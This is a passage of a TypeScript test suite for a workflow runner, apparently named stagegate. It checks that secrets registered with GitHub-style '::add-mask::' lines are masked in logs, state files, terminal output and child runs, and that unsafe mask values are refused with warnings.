    expect(fetchLog).toContain(`shown before: ${secret}\n::add-mask::***\r\n`);
    expect(fetchLog).toContain('fetch uses ***\n');
    expect(ws.read('runs/r1/logs/use.v1.a1.log')).toContain('use sees ***\n');
    for (const file of ['runs/r1/workflow_state.yaml', 'runs/r1/workflow_state.journal.jsonl']) expect(ws.read(file)).not.toContain(secret);
    expect(ws.read('runs/r1/workflow_state.journal.jsonl')).toContain('got ***');
    // The terminal (--stream) shows what the log holds: the value once, before its line.
    expect((r.stdout + r.stderr).split(secret)).toHaveLength(2);
    // A value under 6 characters would mask every `x` of every log: refused, said, its line masked all the same.
    expect(r.stdout + r.stderr).toMatch(/fetch: ::add-mask:: of a value of 1 character not registered/);
    expect(fetchLog).not.toContain('::add-mask::x');
  });

  it("register what GitHub's runner registers: a line led by Unicode white space, the legacy ##[add-mask]VALUE; a value holding a NUL is masked on the terminal too, not only in the log", async () => {
    const wf = `version: '4.0'
name: masks
state_path: 'runs/{{run_id}}/workflow_state.yaml'
steps:
  fetch:
    run: |
      printf '::add-mask::ab\\000cd-nul-secret\\n'
      printf 'raw ab\\000cd-nul-secret\\n'
      printf 'printable abcd-nul-secret\\n'
      printf '\\302\\240\\343\\200\\200::add-mask::nbsp-led-secret\\n'
      echo 'sees nbsp-led-secret'
      echo 'text ##[add-mask]legacy-form-secret'
      echo 'sees legacy-form-secret'
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
      stagegate gate OK
    output: 'runs/{{run_id}}/fetch.md'
    statuses: { OK: DONE }
`;
    const ws = workspaceWith({ 'wf.yaml': wf });
    const r = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--stream']);
    expect(r.code, r.stderr).toBe(0);
    const log = ws.read('runs/r1/logs/fetch.v1.a1.log');
    const terminal = r.stdout + r.stderr;
    for (const value of ['cd-nul-secret', 'nbsp-led-secret', 'legacy-form-secret']) {
      expect(log, value).not.toContain(value);
      expect(terminal, value).not.toContain(value);
    }
    expect(log).toContain('raw ***\nprintable ***\n\u00a0\u3000::add-mask::***\nsees ***\ntext ##[add-mask]***\nsees ***\n');
    expect(terminal).toContain('raw ***');
    expect(terminal).toContain('printable ***');
  });

  it('a value that is a step\'s id or a declared status, of any step, a piece of the run\'s paths or stagegate\'s name is refused with a warning: later logs still name the step and its status', async () => {
    const wf = `version: '4.0'
name: masks
state_path: 'runs/{{run_id}}/workflow_state.yaml'
steps:
  fetch:
    run: |
      printf '::add-mask::publish_release\\n'
      printf '::add-mask::RELEASED\\n'
      printf '::add-mask::workflow_state\\n'
      printf '::add-mask::stagegate\\n'
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
      stagegate gate OK
    output: 'runs/{{run_id}}/fetch.md'
    statuses: { OK: publish_release }
  publish_release:
    run: |
      echo "step $STAGEGATE_STEP reports RELEASED"
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
      stagegate gate RELEASED
    output: 'runs/{{run_id}}/publish.md'
    statuses: { RELEASED: DONE }
`;
    const ws = workspaceWith({ 'wf.yaml': wf });
    const r = await ws.run(['run', 'wf.yaml', '--run-id', 'r1', '--stream']);
    expect(r.code, r.stderr).toBe(0);
    const said = r.stdout + r.stderr;
    expect(said).toContain("fetch: ::add-mask:: of a value that is part of stagegate's own word publish_release not registered");
    expect(said).toContain("fetch: ::add-mask:: of a value that is part of stagegate's own word RELEASED not registered");
    // Nor one inside the run's files' paths (the Action's state-path output) or stagegate's own name.
    expect(said).toContain("fetch: ::add-mask:: of a value that is part of stagegate's own word runs/r1/workflow_state.yaml not registered");
    expect(said).toContain("fetch: ::add-mask:: of a value that is part of stagegate's own word stagegate not registered");
    expect(ws.read('runs/r1/logs/publish_release.v1.a1.log')).toContain('step publish_release reports RELEASED\n');
  });

  it('a value a parent stage registered is masked in its child run\'s stage logs too (one invocation, one set of values)', async () => {
    const stage = (id: string, next: string, body: string) => [`  ${id}:`, '    run: |', ...body.split('\n').map((l) => `      ${l}`), '      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"', '      stagegate gate OK', `    output: 'runs/{{run_id}}/${id}.md'`, `    statuses: { OK: ${next} }`];
    const head = (name: string) => ["version: '4.0'", `name: ${name}`, "state_path: 'runs/{{run_id}}/workflow_state.yaml'", 'inputs:', '  required: [run_id]', 'steps:'];
    const parent = [...head('parent'), ...stage('a', 'sub', `printf '::add-mask::%s\\n' "tok-$((6*7))-parent-secret"`), '  sub:', '    child_workflow: child.yaml', "    inputs: {run_id: 'c-{{run_id}}'}", '    statuses: { WORKFLOW_COMPLETE: DONE }'].join('\n') + '\n';
    const child = [...head('child'), ...stage('x', 'DONE', 'echo "child sees tok-42-parent-secret"')].join('\n') + '\n';
    const ws = workspaceWith({ 'parent.yaml': parent, 'child.yaml': child });
    const r = await ws.run(['run', 'parent.yaml', '--run-id', 'r1', '--json']);
    expect(jsonOf(r)['status'], r.stdout + r.stderr).toBe('WORKFLOW_COMPLETE');
    expect(ws.read('runs/c-r1/logs/x.v1.a1.log')).toContain('child sees ***\n');
    expect(ws.read('runs/r1/logs/a.v1.a1.log')).toContain('::add-mask::***\n');
  });
});
